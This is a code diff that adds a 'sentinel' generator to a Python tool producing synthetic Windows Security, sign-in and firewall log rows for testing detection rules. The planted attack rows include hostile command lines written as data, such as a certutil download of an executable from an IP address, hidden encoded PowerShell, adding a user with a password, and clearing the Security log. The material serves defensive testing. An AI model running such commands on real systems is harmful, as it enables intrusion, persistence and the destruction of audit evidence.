@@ -10,6 +10,8 @@ KIND is one of
   process_creation  Sysmon EventID 1 in the EVTX-JSON rendering of SigmaHQ's regression
                     data ({"Event":{"#attributes":..,"System":..,"EventData":..}}); these
                     carry no log type: run them with `rulec run ... --log-type WinEventLog`.
+  sentinel          SecurityEvent, SigninLogs and CommonSecurityLog rows in one file, each
+                    with its table in `Type`, sharing users, hosts and IPs (for joins).
 
 Same arguments -> byte-identical output (Python 3.11 standard library only; nothing
 depends on hash randomization or the clock). Most events are benign and repetitive:
@@ -1451,9 +1453,280 @@ def gen_process(seed, count, rate):
                f'"IntegrityLevel":"{il or il0}","Hashes":{img.hashes},{par}}}}}}}')
 
 
+# =========================================================================== sentinel
+#
+# One mixed file of three Log Analytics tables, each row carrying its table in `Type` (how rulec
+# routes a row to a query's source table, docs/kql.md "Tables and events"): SigninLogs (the rows
+# of gen_signin, retimed), SecurityEvent (Windows Security log as the Azure Monitor agent writes
+# it: Account / TargetAccount "DOMAIN\user", LogonType, IpAddress, the logon ids as hex text) and
+# CommonSecurityLog (CEF from firewalls, VPN and proxy: DeviceVendor, DeviceProduct, Activity,
+# SourceIP, DestinationIP, DestinationPort, DeviceAction). The tables share their entities so
+# that joins find rows: the SecurityEvent and CommonSecurityLog rows take their users and public
+# IPs from the sign-ins written before them (the UPN's local part is the Windows account name),
+# and each user has one workstation whose internal IP the firewall rows use. One clock for all
+# rows (mean 0.5 s apart), so every TimeGenerated is distinct.
+
+SE_ACTIVITY = {
+    4624: "4624 - An account was successfully logged on.", 4625: "4625 - An account failed to log on.",
+    4634: "4634 - An account was logged off.", 4672: "4672 - Special privileges assigned to new logon.",
+    4688: "4688 - A new process has been created.", 4720: "4720 - A user account was created.",
+    4726: "4726 - A user account was deleted.", 4732: "4732 - A member was added to a security-enabled local group.",
+    1102: "1102 - The audit log was cleared.",
+}
+SE_BENIGN_PROCS = [  # weight, parent, process path, command line
+    (20, "C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
+    (18, "C:\\Windows\\explorer.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument'),
+    (12, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
+    (10, "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\System32\\cmd.exe"'),
+    (8, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"),
+    (8, "C:\\Windows\\explorer.exe", "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", '"Teams.exe" --system-initiated'),
+    (6, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
+    (5, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Intune\\detect.ps1"),
+    (4, "C:\\Windows\\System32\\services.exe", "C:\\Program Files\\Windows Defender\\MsMpEng.exe", '"C:\\Program Files\\Windows Defender\\MsMpEng.exe"'),
+    (3, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\net.exe", "net use Z: \\\\FS01\\shared"),
+]
+# Planted process creations after a remote logon; each command line is one real rules look for.
+SE_ATTACK_PROCS = [
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe", "whoami /all"),  # proc_creation_win_whoami_all_execution.yml
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe",
+     "certutil.exe -urlcache -split -f http://185.220.101.47/a.exe C:\\Users\\Public\\a.exe"),  # proc_creation_win_certutil_download.yml
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),  # proc_creation_win_powershell_base64_*.yml
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\net.exe", "net user svc_backup P@ssw0rd! /add"),  # proc_creation_win_net_user_add.yml
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security"),  # 089_XDR_LogDeletionUsingWevtutil.yaml
+]
+# Threat-intelligence IPs (the kql-sentinel pack's ti_* queries list the same ones): beacons from
+# workstations go to them.
+TI_IPS = ["185.220.101.47", "45.155.205.233", "193.142.146.35", "91.240.118.172", "194.26.29.113"]
+DOM = "CONTOSO\\"  # the Windows domain of Account columns
+SERVERS = ["DC01", "DC02", "FS01", "SQL01", "ADFS01", "EXCH01"]
+CSL_DEVICES = {  # DeviceVendor, DeviceProduct
+    "fw": ("Palo Alto Networks", "PAN-OS"), "vpn": ("Fortinet", "Fortigate"), "proxy": ("Zscaler", "NSSWeb"),
+}
+WEB_DESTS = ["13.107.42.14", "52.96.165.18", "142.250.72.14", "151.101.1.69", "104.16.132.229",
+             "20.190.151.70", "40.126.32.134", "199.232.46.133", "23.215.0.136", "172.217.14.78"]
+URLS = ["https://outlook.office365.com/owa/", "https://teams.microsoft.com/", "https://www.google.com/search",
+        "https://github.com/contoso/app", "https://contoso.sharepoint.com/sites/finance",
+        "https://login.microsoftonline.com/common/oauth2", "https://cdn.jsdelivr.net/npm/jquery"]
+
+
+def gen_sentinel(seed, count, rate):
+    pr = random.Random(f"sentinel-pools:{seed}")
+    rng = random.Random(f"sentinel-stream:{seed}")
+    rnd = rng.random
+    signins = gen_signin(seed, 1 << 62, rate)
+    fmt = SecondFormat("%Y-%m-%dT%H:%M:%S")
+    t = epoch("2024-05-01T00:00:00Z") * 1_000_000
+
+    hosts = [(f"WS-{i:04d}", f"10.20.{i // 200}.{i % 200 + 10}") for i in range(1, 341)]
+    servers = [(s, f"10.10.0.{10 + i}") for i, s in enumerate(SERVERS)]
+    users, user_host, user_sid, user_ips = [], {}, {}, {}  # seen in sign-ins, in order
+    failed_ips = []  # attackers' public IPs in the sign-ins (sprays, brute force)
+    pick_host_user = zipf_picker(rng, 420, 1.05, 2.0)
+    proc_pick, procs = weighted(rng, [(w, (J(p), J(n), J(n.rsplit("\\", 1)[1]), J(c))) for w, p, n, c in SE_BENIGN_PROCS])
+    sid_base = f"S-1-5-21-{pr.randrange(10**9)}-{pr.randrange(10**9)}-{pr.randrange(10**9)}"
+    nxt_rid = [1100]
+
+    def sniff(line):
+        """The sign-in's user and IP feed the other tables' pools."""
+        i = line.find('"UserPrincipalName":"') + 21
+        upn = line[i:line.index('"', i)]
+        i = line.find('"IPAddress":"') + 13
+        ip = line[i:line.index('"', i)]
+        if upn.endswith("@contoso.com") and upn not in user_host:
+            users.append(upn[:-12])
+            user_host[upn] = len(users) % len(hosts)
+            user_sid[upn[:-12]] = f"{sid_base}-{nxt_rid[0]}"
+            nxt_rid[0] += 1
+        if upn.endswith("@contoso.com"):
+            user_ips.setdefault(upn[:-12], set()).add(ip)
+        # Attackers' failures (the sprays' empty device, the brute force's Chrome 123), not users' typos.
+        if ('"ResultType":"50126"' in line and ('"browser":""}' in line or '"Chrome 123.0.0"' in line)
+                and ip not in failed_ips):
+            failed_ips.append(ip)
+
+    def logon_id():
+        return "0x%x" % rng.randrange(0x100000, 0xfffffff)
+
+    # SecurityEvent rows: the common columns, then the event's own.
+    def se(ts, computer, eid, account, rest):
+        return (f'{{"TimeGenerated":"{ts}","Computer":"{computer}.contoso.com","EventID":{eid},'
+                f'"Activity":{J(SE_ACTIVITY[eid])},"Account":{J(account)},{rest},'
+                f'"EventSourceName":"{"Microsoft-Windows-Eventlog" if eid == 1102 else "Microsoft-Windows-Security-Auditing"}",'
+                f'"Channel":"Security","Type":"SecurityEvent"}}')
+
+    def logon(ts, computer, user, eid, ltype, ip, lid, substatus=None):
+        acct = f"CONTOSO\\{user}"
+        rest = (f'"AccountType":"{"Machine" if user.endswith("$") else "User"}","TargetUserName":{J(user)},'
+                f'"TargetDomainName":"CONTOSO","TargetAccount":{J(acct)},"TargetUserSid":"{user_sid.get(user, sid_base + "-500")}",'
+                f'"LogonType":{ltype},"LogonProcessName":"{"User32" if ltype in (2, 10) else "NtLmSsp"}",'
+                f'"AuthenticationPackageName":"{"Negotiate" if ltype in (2, 10) else "NTLM"}",'
+                f'"IpAddress":"{ip}","WorkstationName":"{computer}"')
+        if eid == 4624:
+            rest += f',"TargetLogonId":"{lid}"'
+        else:
+            rest += f',"Status":"0xc000006d","SubStatus":"{substatus}","FailureReason":"%%2313"'
+        return se(ts, computer, eid, acct, rest)
+
+    def process(ts, computer, user, lid, proc):
+        parent, path, name, cmd = proc
+        rest = (f'"AccountType":"User","SubjectUserName":{J(user)},"SubjectDomainName":"CONTOSO",'
+                f'"SubjectLogonId":"{lid}","NewProcessName":{path},"Process":{name},"CommandLine":{cmd},'
+                f'"ParentProcessName":{parent},"TokenElevationType":"%%1938"')
+        return se(ts, computer, 4688, f"CONTOSO\\{user}", rest)
+
+    def account_change(ts, computer, eid, admin, target, extra=""):
+        rest = (f'"AccountType":"User","SubjectUserName":{J(admin)},"SubjectAccount":{J(DOM + admin)},'
+                f'"SubjectUserSid":"{user_sid.get(admin, sid_base + "-500")}","TargetUserName":{J(target)},'
+                f'"TargetAccount":{J(DOM + target)},"TargetSid":"{sid_base}-{9000 + sum(map(ord, target))}"{extra}')
+        return se(ts, computer, eid, f"CONTOSO\\{admin}", rest)
+
+    def csl(ts, dev, activity, src, spt, dst, dpt, action, rest=""):
+        vendor, product = CSL_DEVICES[dev]
+        return (f'{{"TimeGenerated":"{ts}","DeviceVendor":"{vendor}","DeviceProduct":"{product}",'
+                f'"DeviceVersion":"10.2","Activity":"{activity}","LogSeverity":"{"5" if action != "allow" else "1"}",'
+                f'"SourceIP":"{src}","SourcePort":{spt},"DestinationIP":"{dst}","DestinationPort":{dpt},'
+                f'"Protocol":"TCP","DeviceAction":"{action}"{rest},"Type":"CommonSecurityLog"}}')
+
+    def some_user():
+        return users[min(pick_host_user(), len(users) - 1)]
+
+    def benign_se(ts):
+        r = rnd()
+        user = some_user()
+        name, ip = hosts[user_host[user + "@contoso.com"]]
+        if r < 0.42:
+            ltype = 3 if rnd() < 0.6 else 2
+            comp = servers[rng.randrange(len(servers))][0] if ltype == 3 else name
+            return logon(ts, comp, user, 4624, ltype, ip, logon_id())
+        if r < 0.47:  # a mistyped password
+            return logon(ts, name, user, 4625, 2, ip, None, "0xc000006a" if rnd() < 0.8 else "0xc0000064")
+        if r < 0.57:
+            return se(ts, name, 4634, f"CONTOSO\\{user}", f'"AccountType":"User","TargetUserName":{J(user)},'
+                      f'"TargetLogonId":"{logon_id()}","LogonType":2')
+        if r < 0.63:
+            comp = servers[rng.randrange(len(servers))][0]
+            return se(ts, comp, 4672, f"CONTOSO\\{user}", f'"AccountType":"User","SubjectUserName":{J(user)},'
+                      f'"SubjectLogonId":"{logon_id()}","PrivilegeList":"SeSecurityPrivilege SeBackupPrivilege"')
+        if r < 0.9993:
+            return process(ts, name, user, logon_id(), procs[proc_pick()])
+        admin = users[rng.randrange(min(len(users), 20))]  # a helpdesk account creates a user
+        return account_change(ts, "DC01", 4720, admin, f"{rng.choice(FIRST)}.{rng.choice(LAST)}")
+
+    def benign_csl(ts):
+        r = rnd()
+        user = some_user()
+        name, ip = hosts[user_host[user + "@contoso.com"]]
+        if r < 0.55:
+            dst = WEB_DESTS[rng.randrange(len(WEB_DESTS))]
+            dpt = 443 if rnd() < 0.85 else rng.choice((80, 53, 123))
+            return csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), dst, dpt,
+                       "allow" if rnd() < 0.97 else "deny",
+                       f',"ApplicationProtocol":"{"ssl" if dpt == 443 else "web-browsing" if dpt == 80 else "dns" if dpt == 53 else "ntp"}",'
+                       f'"SentBytes":{rng.randrange(200, 90000)},"ReceivedBytes":{rng.randrange(200, 900000)}')
+        if r < 0.75:
+            url = URLS[rng.randrange(len(URLS))]
+            return csl(ts, "proxy", "url", ip, rng.randrange(49152, 65535), WEB_DESTS[rng.randrange(len(WEB_DESTS))], 443,
+                       "allow" if rnd() < 0.98 else "block", f',"SourceUserName":"{user}@contoso.com","RequestURL":{J(url)}')
+        if r < 0.85:  # VPN logins from the user's public IPs (seen in their sign-ins)
+            pubs = sorted(user_ips[user])
+            ok = rnd() < 0.95
+            return csl(ts, "vpn", "ssl-login" if ok else "ssl-login-fail", pubs[rng.randrange(len(pubs))],
+                       rng.randrange(1024, 65535), "52.160.10.5", 443, "allow" if ok else "deny",
+                       f',"SourceUserName":"{user}@contoso.com"')
+        srv, sip = servers[rng.randrange(len(servers))]  # east-west traffic to the servers
+        dpt = rng.choice((445, 389, 88, 135, 1433, 443))
+        return csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), sip, dpt, "allow")
+
+    # Planted activity: generators of row makers (ts -> line).
+    def c_rdp_brute():
+        # 093_SE_gte_6_FailedLogons_10m.yaml; a success after the failures, then commands in that
+        # logon (032_GainCodeExecutionADFSViaSMB.yaml's join of 4624 with later events by logon id).
+        src = failed_ips[rng.randrange(len(failed_ips))] if failed_ips and rnd() < 0.7 else public_ip(rng)
+        srv = servers[rng.randrange(len(servers))]
+        user = users[rng.randrange(len(users))]
+        for _ in range(rng.randrange(8, 30)):
+            yield lambda ts: logon(ts, srv[0], user, 4625, 10, src, None, "0xc000006a")
+            if rnd() < 0.5:
+                yield lambda ts: csl(ts, "fw", "TRAFFIC", src, rng.randrange(1024, 65535), "52.160.10.5", 3389, "allow")
+        if rnd() < 0.6:
+            lid = logon_id()
+            yield lambda ts: logon(ts, srv[0], user, 4624, 10, src, lid)
+            for p in rng.sample(SE_ATTACK_PROCS, rng.randrange(1, 4)):
+                yield lambda ts, p=p: process(ts, srv[0], user, lid, tuple(map(J, (p[0], p[1], p[1].rsplit("\\", 1)[1], p[2]))))
+
+    def c_create_delete():
+        # 092_SE_UserAccountCreatedDeleted_10m.yaml (created and deleted within minutes) and
+        # 122_XDR_LocalAdminGroupChanges.yaml (added to the local Administrators group).
+        admin = users[rng.randrange(len(users))]
+        target = f"{rng.choice(FIRST)}{rng.randrange(10, 99)}"
+        yield lambda ts: account_change(ts, "DC01", 4720, admin, target)
+        if rnd() < 0.5:
+            yield lambda ts: account_change(ts, "DC01", 4732, admin, "Administrators",
+                                            f',"MemberName":"CN={target},CN=Users,DC=contoso,DC=com","MemberSid":"{sid_base}-{9000 + sum(map(ord, target))}"')
+        for _ in range(rng.randrange(2, 8)):
+            yield benign_se  # a few other rows between (a None would end the campaign)
+        yield lambda ts: account_change(ts, "DC01", 4726, admin, target)
+
+    def c_fake_computer():  # 097_SE_FakeComputerAccountCreated.yaml
+        admin = users[rng.randrange(len(users))]
+        yield lambda ts: account_change(ts, "DC02", 4720, admin, f"DESKTOP-{rng.randrange(10**6):06d}$")
+
+    def c_log_cleared():  # 033_NRT_SecurityEventLogCleared.yaml
+        user = users[rng.randrange(len(users))]
+        comp = hosts[user_host[user + "@contoso.com"]][0] if rnd() < 0.5 else servers[rng.randrange(len(servers))][0]
+        yield lambda ts: se(ts, comp, 1102, f"CONTOSO\\{user}", f'"AccountType":"User","SubjectUserName":{J(user)}')
+
+    def c_port_scan():  # 114_ASim_PortScan.yaml: one source over many destination ports, denied
+        src = failed_ips[rng.randrange(len(failed_ips))] if failed_ips and rnd() < 0.5 else public_ip(rng)
+        ports = rng.sample(range(1, 10000), rng.randrange(40, 120))
+        for p in ports:
+            yield lambda ts, p=p: csl(ts, "fw", "TRAFFIC", src, rng.randrange(1024, 65535), "52.160.10.5", p,
+                                      "deny" if rnd() < 0.9 else "drop")
+
+    def c_beacon():  # a workstation beaconing to a threat-intelligence IP (107_TI_IPEntity_AzureActivity.yaml)
+        user = users[rng.randrange(len(users))]
+        ip = hosts[user_host[user + "@contoso.com"]][1]
+        dst = TI_IPS[rng.randrange(len(TI_IPS))]
+        for _ in range(rng.randrange(5, 20)):
+            yield lambda ts: csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), dst, 8443, "allow",
+                                 f',"ApplicationProtocol":"ssl","SentBytes":{rng.randrange(300, 900)},"ReceivedBytes":{rng.randrange(300, 2000)}')
+
+    def c_vpn_spray():  # the sign-in sprayers' IPs at the VPN too (028_SigninPasswordSpray.yaml, for CEF)
+        if not failed_ips:
+            return
+        src = failed_ips[-1 - rng.randrange(min(len(failed_ips), 5))]
+        for _ in range(rng.randrange(10, 40)):
+            yield lambda ts: csl(ts, "vpn", "ssl-login-fail", src, rng.randrange(1024, 65535), "52.160.10.5", 443, "deny",
+                                 f',"SourceUserName":"{users[rng.randrange(len(users))]}@contoso.com"')
+
+    camp = Campaigns(rng, 0.003 * rate, [(3, c_rdp_brute), (2, c_create_delete), (1, c_fake_computer),
+                                         (1, c_log_cleared), (2, c_port_scan), (2, c_beacon), (2, c_vpn_spray)],
+                     interleave=0.4)
+    made = 0
+    while made < count:
+        t += int(rng.expovariate(1 / 500_000))  # mean 0.5 s
+        ts = f"{fmt(t // 1_000_000)}.{t % 1_000_000:06d}0Z"
+        r = rnd()
+        if r < 0.3 or len(users) < 20:  # SigninLogs (and the pools fill from the first sign-ins)
+            line = next(signins)
+            sniff(line)
+            line = line[:18] + ts + line[46:]
+        else:
+            maker = camp.next()
+            if maker is not None:
+                line = maker(ts)
+            elif r < 0.7:
+                line = benign_se(ts)
+            else:
+                line = benign_csl(ts)
+        made += 1
+        yield line
+
+
 # =========================================================================== main
 
-KINDS = {"netskope": gen_netskope, "signin": gen_signin, "process_creation": gen_process}
+KINDS = {"netskope": gen_netskope, "signin": gen_signin, "process_creation": gen_process, "sentinel": gen_sentinel}
 
 
 def main(argv=None):
